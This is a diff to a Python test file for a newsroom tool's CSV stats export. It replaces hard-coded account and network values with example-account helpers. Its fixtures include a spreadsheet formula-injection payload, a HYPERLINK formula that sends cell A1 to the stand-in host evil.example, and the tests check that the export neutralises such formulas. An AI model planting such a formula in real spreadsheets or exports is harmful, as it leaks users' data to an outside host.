@@ -11,6 +11,7 @@ import json
 from pathlib import Path
 
 from ..conftest import VALID_ITEM, VALID_PATH, write
+from ..example_accounts import a_network, example_account
 
 TITLE = '=HYPERLINK("https://evil.example/?"&A1,"Quantum sensor")'
 FORMULAS = [
@@ -22,6 +23,8 @@ FORMULAS = [
     "\r=1+1",
 ]
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+NETWORK = a_network()
+ACCOUNT, _ = example_account(NETWORK)
 
 
 def _reading(account: str, error: str) -> str:
@@ -30,7 +33,7 @@ def _reading(account: str, error: str) -> str:
         "kind": "post",
         "item": "k7q2m9ab",
         "account": account,
-        "network": "x",
+        "network": NETWORK,
         "post_id": "1234",
         "at": "2026-11-21T10:00:00Z",
         "status": "unreachable",
@@ -50,7 +53,7 @@ def test_text_a_spreadsheet_would_run_starts_with_a_quote(newsroom: Path, run) -
         'title: "Quantum sensor maps brain activity"', f"title: {json.dumps(TITLE)}", 1
     )
     write(newsroom, VALID_PATH, item)
-    readings = [_reading(f"uni-x-{n}", formula) for n, formula in enumerate(FORMULAS)]
+    readings = [_reading(f"{ACCOUNT}-{n}", formula) for n, formula in enumerate(FORMULAS)]
     write(newsroom, "stats/snapshots/2026-11.jsonl", "".join(readings))
 
     result = run(newsroom, "stats", "--report-only")
@@ -68,10 +71,10 @@ def test_text_a_spreadsheet_would_run_starts_with_a_quote(newsroom: Path, run) -
 
 
 def test_plain_text_and_numbers_are_written_as_they_are(newsroom: Path, run) -> None:
-    write(newsroom, "stats/snapshots/2026-11.jsonl", _reading("uni-x", "timed out"))
+    write(newsroom, "stats/snapshots/2026-11.jsonl", _reading(ACCOUNT, "timed out"))
 
     assert run(newsroom, "stats", "--report-only").exit_code == 0
 
     head, post = _rows(newsroom / "output/stats", "stats.csv")
     assert post[head.index("title")] == "Quantum sensor maps brain activity"
-    assert (post[head.index("post_id")], post[head.index("account")]) == ("1234", "uni-x")
+    assert (post[head.index("post_id")], post[head.index("account")]) == ("1234", ACCOUNT)
